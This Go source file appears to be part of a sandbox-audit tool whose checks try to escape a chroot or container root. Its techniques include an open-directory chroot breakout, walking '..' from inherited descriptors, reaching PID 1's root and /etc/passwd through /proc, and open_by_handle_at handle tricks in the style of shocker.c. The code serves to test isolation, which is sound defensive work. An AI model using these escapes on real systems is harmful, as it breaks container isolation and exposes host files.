package main

import (
	"errors"
	"os"
	"path/filepath"
	"syscall"

	"golang.org/x/sys/unix"
)

// rootAttacks are the ways out of a root folder.
func rootAttacks() []attack {
	return []attack{
		{name: "chroot-open-dir", what: "chroot(2), NOTES: below a further root an open folder leads out of both", try: chrootEscape},
		{name: "chroot-user-namespace", what: "the same as root of an own user namespace", try: userNamespace, inside: chrootEscape},
		{name: "pivot-root", what: "pivot_root(2): make another folder the root", try: func(p *probe) outcome {
			return p.unreached("pivot_root", unshared(func() error { return unix.PivotRoot(".", ".") }))
		}},
		{name: "dot-dot", what: "walk up from every folder that is open", try: walkUp},
		{name: "root-of-init", what: "proc_pid_root(5): PID 1's root, folder, descriptors and program as paths", try: throughInit},
		{name: "root-of-others", what: "proc_pid_root(5): a process whose root isn't the jail's", try: otherRoots},
		{name: "handle-of-root", what: "open_by_handle_at(2) on inode 2, the root of most file systems (CVE-2014-9357's kin, shocker.c)", try: handleOfRoot},
		{name: "handle-of-process", what: "open_by_handle_at(2) on a pidfd's handle, which needs no capability since Linux 6.14", try: handleOfProcess},
	}
}

// place tells folders apart.
type place struct{ device, inode uint64 }

func placeOf(path string) (place, error) {
	var st unix.Stat_t
	err := unix.Stat(path, &st)
	return place{st.Dev, st.Ino}, err
}

func placeOfFD(fd int) (place, error) {
	var st unix.Stat_t
	err := unix.Fstat(fd, &st)
	return place{st.Dev, st.Ino}, err
}

// chrootEscape is the classic: the working folder stays outside of the new root,
// so that .. leads up to whatever is above.
func chrootEscape(p *probe) outcome {
	before, err := placeOf("/")
	if err != nil {
		return held("stat /: %v", err)
	}
	out, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return held("open /: %v", err)
	}
	if err := unix.Chroot(p.scratch); err != nil {
		return p.unreached("chroot", err)
	}
	if err := unix.Fchdir(out); err != nil {
		return broken("chroot worked; fchdir: %v", err)
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			break
		}
	}
	after, err := placeOf(".")
	if err != nil || after != before {
		return broken("chroot worked, and led out of the jail's root: %v", err)
	}
	return broken("chroot worked; .. led no further than to the jail's root")
}

// userNamespace runs the inner part as root of a user namespace.
func userNamespace(p *probe) outcome {
	return p.within("clone(CLONE_NEWUSER)", newUser(0))
}

// newUser asks for a user namespace in which the caller is root, and for others.
func newUser(others uintptr) *syscall.SysProcAttr {
	return &syscall.SysProcAttr{
		Cloneflags:  unix.CLONE_NEWUSER | others,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
	}
}

// walkUp follows .. from the working folder, the home and every inherited
// descriptor. All ways up must end at the same root (CVE-2024-21626).
func walkUp(p *probe) outcome {
	root, err := placeOf("/")
	if err != nil {
		return held("stat /: %v", err)
	}
	starts := []string{".", "/", p.home, "/tmp", "/dev/pts", "/proc", "/proc/self/cwd", "/proc/1/cwd"}
	links, _ := filepath.Glob("/proc/self/fd/*")
	tried := 0
	for _, start := range append(starts, links...) {
		fd, err := unix.Open(start, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		tried++
		end, err := top(fd)
		if err != nil {
			return broken("from %s: %v", start, err)
		}
		if end != root {
			return broken("from %s .. ends at another root", start)
		}
	}
	return held("%d folders lead up to /", tried)
}

// top closes fd, and returns where .. ends.
func top(fd int) (place, error) {
	defer func() { _ = unix.Close(fd) }()
	now, err := placeOfFD(fd)
	for range 256 {
		if err != nil {
			return now, err
		}
		up, err := unix.Openat(fd, "..", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			return now, err
		}
		_ = unix.Close(fd)
		fd = up
		above, err := placeOfFD(fd)
		if err != nil || above == now {
			return above, err
		}
		now = above
	}
	return now, errors.New("no end of folders")
}

func throughInit(p *probe) outcome {
	var all []outcome
	for _, name := range []string{"root/", "cwd/", "root/etc/passwd", "exe", "fd/0", "fd/3"} {
		path := p.initPath(name)
		fd, err := unix.Open(path, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err == nil {
			_ = unix.Close(fd)
		}
		all = append(all, p.refused(path, err))
	}
	return worst(all...)
}

// otherRoots looks for a process that sees more: one that was left outside.
func otherRoots(*probe) outcome {
	root, err := placeOf("/")
	if err != nil {
		return held("stat /: %v", err)
	}
	seen := 0
	for _, link := range glob("/proc/[0-9]*/root") {
		seen++
		if other, err := placeOf(link); err == nil && other != root {
			return broken("%s is another root", link)
		}
	}
	return held("%d processes have the same root, or don't tell", seen)
}

func glob(pattern string) []string {
	found, _ := filepath.Glob(pattern) // the pattern is right
	return found
}

func handleOfRoot(p *probe) outcome {
	at, err := unix.Open(p.home, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return held("open %s: %v", p.home, err)
	}
	handle := unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
	_, err = unix.OpenByHandleAt(at, handle, unix.O_RDONLY)
	_, _, nameErr := unix.NameToHandleAt(unix.AT_FDCWD, "/", 0)
	return worst(p.unreached("open_by_handle_at", err), p.unreached("name_to_handle_at", nameErr))
}

// pidfsRoot is FD_PIDFS_ROOT of linux/fcntl.h.
const pidfsRoot = -10002

func handleOfProcess(p *probe) outcome {
	pidfd, err := unix.PidfdOpen(os.Getpid(), 0)
	if err != nil {
		return p.refused("pidfd_open", err)
	}
	handle, _, err := unix.NameToHandleAt(pidfd, "", unix.AT_EMPTY_PATH)
	if errors.Is(err, unix.EOPNOTSUPP) {
		return absent("pidfds have no handles: %v", err)
	}
	if err != nil {
		return p.unreached("name_to_handle_at", err)
	}
	_, err = unix.OpenByHandleAt(pidfsRoot, handle, 0)
	return p.unreached("open_by_handle_at", err)
}
